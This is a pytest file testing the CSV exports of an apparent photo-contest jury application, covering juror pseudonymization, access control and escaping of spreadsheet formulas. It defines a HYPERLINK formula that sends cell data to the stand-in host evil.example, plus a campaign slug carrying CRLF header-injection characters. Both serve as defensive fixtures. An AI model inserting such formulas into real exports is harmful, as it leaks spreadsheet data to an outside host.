import csv
import io

import pytest
from fastapi import Request
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.core.deps import get_session, request_session
from app.results import exports, service
from tests.factories import make_user
from tests.helpers import login
from tests.results.scene import make_scene

EVIL_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click me")'


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("File:Sunset = nice.jpg", "File:Sunset = nice.jpg"),
        ("", ""),
        (-1, -1),
        (0.5, 0.5),
    ],
)
def test_cells_a_spreadsheet_would_evaluate_get_a_leading_apostrophe(value, safe):
    assert exports.safe_cell(value) == safe


def test_rendering_writes_a_header_and_crlf_lines_in_chunks(monkeypatch):
    monkeypatch.setattr(exports, "_CHUNK_ROWS", 2)
    chunks = list(exports.render(("a", "b"), [(1, "x"), (2, "y, z"), (3, '"q"')]))
    assert len(chunks) == 2
    assert "".join(chunks) == 'a,b\r\n1,x\r\n2,"y, z"\r\n3,"""q"""\r\n'


def test_results_csv_lists_entries_by_rank_with_commons_links(client, settings, session):
    scene = make_scene(
        session,
        entries=4,
        titles=[EVIL_TITLE, "File:Fort Ussher.jpg", "File:Élan ß.jpg", "File:None.jpg"],
    )
    scene.votes(session, [[5, 5], [4, 4], [4, 4], [None, None]])
    scene.campaign.slug = "wlm-2026-gh"
    session.commit()
    login(client, settings, scene.coordinator)

    response = client.get(f"/api/rounds/{scene.round.id}/export/results.csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="wlm-2026-gh-round-{scene.round.ordinal}-results.csv"'
    )
    rows = read_csv(response.content.decode("utf-8"))
    assert list(rows[0]) == list(exports.RESULT_COLUMNS)
    assert [r["rank"] for r in rows] == ["1", "2", "2", ""]
    assert rows[0]["title"] == "'" + EVIL_TITLE
    assert rows[1]["title"] == "File:Fort Ussher.jpg"
    assert rows[2]["title"] == "File:Élan ß.jpg"
    assert rows[1]["commons_url"] == "https://commons.wikimedia.org/wiki/File:Fort_Ussher.jpg"
    assert rows[2]["commons_url"] == (
        "https://commons.wikimedia.org/wiki/File:%C3%89lan_%C3%9F.jpg"
    )
    assert [r["score"] for r in rows] == ["1", "0.75", "0.75", ""]
    assert [r["vote_count"] for r in rows] == ["2", "2", "2", "0"]
    assert {r["advanced"] for r in rows} == {""}
    assert rows[0]["uploader"].startswith("Uploader")


def test_results_csv_of_an_advanced_round_says_who_advanced(session):
    scene = make_scene(session, entries=3)
    scene.votes(session, [[5], [3], [1]])
    from app.results.schemas import AdvanceRequest
    from app.rounds.schemas import RoundCreate

    service.advance(
        session,
        round_=scene.round,
        data=AdvanceRequest(min_score=0.5, next_round=RoundCreate(name="Next")),
        actor=scene.coordinator,
    )
    export = exports.results_csv(session, round_=scene.round)
    rows = read_csv("".join(export.chunks))
    assert [r["advanced"] for r in rows] == ["yes", "yes", "no"]


def test_results_csv_of_a_ranking_round_ranks_by_place(session):
    scene = make_scene(session, method="ranking", entries=3, jurors=2)
    scene.ballot(session, 0, [1, 2, 3])
    scene.ballot(session, 1, [2, 1, 3])
    rows = read_csv("".join(exports.results_csv(session, round_=scene.round).chunks))
    assert [r["rank"] for r in rows] == ["1", "1", "3"]
    assert {r["score"] for r in rows} == {""}


def test_votes_csv_pseudonymizes_jurors_by_user_id_unless_asked_not_to(client, settings, session):
    scene = make_scene(session, entries=2, jurors=3, titles=["File:A.jpg", EVIL_TITLE])
    scene.jurors[0].username = "@Mallory"
    scene.vote(session, 2, 0, 4, comment="-2 points for the crop", favourite=True)
    scene.vote(session, 0, 0, 2)
    scene.vote(session, 1, 1, 5, comment="Ein schönes Foto")
    session.commit()
    login(client, settings, scene.coordinator)

    response = client.get(f"/api/rounds/{scene.round.id}/export/votes.csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"].endswith(
        f'-round-{scene.round.ordinal}-votes.csv"'
    )
    rows = read_csv(response.content.decode("utf-8"))
    assert list(rows[0]) == list(exports.VOTE_COLUMNS)
    assert [(r["juror"], r["value"], r["normalized"]) for r in rows] == [
        ("Juror 1", "2", "0.25"),
        ("Juror 3", "4", "0.75"),
        ("Juror 2", "5", "1"),
    ]
    assert rows[1]["comment"] == "'-2 points for the crop"
    assert rows[1]["favourite"] == "yes" and rows[0]["favourite"] == "no"
    assert rows[2]["comment"] == "Ein schönes Foto"
    assert rows[2]["title"] == "'" + EVIL_TITLE
    assert rows[0]["updated_at"].endswith("+00:00")
    assert "Mallory" not in response.text

    named = client.get(
        f"/api/rounds/{scene.round.id}/export/votes.csv", params={"pseudonymize": "false"}
    )
    rows = read_csv(named.content.decode("utf-8"))
    assert [r["juror"] for r in rows] == ["'@Mallory", "Juror C", "Juror B"]


def test_pseudonyms_count_every_juror_of_the_round_even_without_votes(session):
    scene = make_scene(session, entries=1, jurors=3)
    scene.vote(session, 2, 0, 3)
    names = exports.pseudonyms(session, round_=scene.round, voters=[])
    assert names == {j.id: f"Juror {n}" for n, j in enumerate(scene.jurors, 1)}
    stranger = make_user(session)
    with_stranger = exports.pseudonyms(session, round_=scene.round, voters=[stranger.id])
    assert with_stranger[stranger.id] == "Juror 4"


def test_export_filenames_keep_only_safe_characters(session):
    scene = make_scene(session, entries=1)
    scene.campaign.slug = 'evil"; name=\r\nx'
    assert exports.filename(session, round_=scene.round, kind="results") == (
        f"evil___name___x-round-{scene.round.ordinal}-results.csv"
    )


def test_entries_csv_lists_every_entry_with_its_provenance(client, settings, session):
    scene = make_scene(session, entries=3, titles=[EVIL_TITLE, "File:Gate.jpg", "File:Fort.jpg"])
    disqualified = scene.entries[2]
    disqualified.source = "category:Images from WLM 2026"
    disqualified.dq_code = "window"
    disqualified.dq_reason = "First uploaded after the campaign closed."
    session.commit()
    other = make_user(session)
    session.commit()

    login(client, settings, other)
    refused = client.get(f"/api/rounds/{scene.round.id}/export/entries.csv")
    assert refused.status_code == 403

    login(client, settings, scene.coordinator)
    response = client.get(f"/api/rounds/{scene.round.id}/export/entries.csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"].endswith('-entries.csv"')
    rows = read_csv(response.content.decode("utf-8"))
    assert list(rows[0]) == list(exports.ENTRY_COLUMNS)
    assert [r["title"] for r in rows] == ["'" + EVIL_TITLE, "File:Gate.jpg", "File:Fort.jpg"]
    assert [r["disqualified"] for r in rows] == ["", "", "window"]
    assert rows[2]["disqualified_reason"] == "First uploaded after the campaign closed."
    assert rows[2]["source"] == "category:Images from WLM 2026"
    assert rows[0]["uploaded_at"].startswith("2026-09-15")
    assert all(r["uploader"] for r in rows)


@pytest.mark.parametrize("kind", ["results", "entries", "votes"])
def test_a_download_holds_no_transaction_open_while_it_is_sent(app, settings, session, kind):
    scene = make_scene(session, entries=2)
    scene.votes(session, [[5, 4], [3, None]])
    session.commit()
    opened: list[Session] = []

    async def watched_session(request: Request):
        async with request_session(request) as request_db:
            opened.append(request_db)
            yield request_db

    app.dependency_overrides[get_session] = watched_session
    in_transaction: list[bool] = []

    async def probe(scope, receive, send):
        async def watch(message):
            if message["type"] == "http.response.body" and opened:
                in_transaction.append(opened[-1].in_transaction())
            await send(message)

        await app(scope, receive, watch)

    with TestClient(probe) as client:
        login(client, settings, scene.coordinator)
        response = client.get(f"/api/rounds/{scene.round.id}/export/{kind}.csv")
    assert response.status_code == 200, response.text
    assert in_transaction and not any(in_transaction)
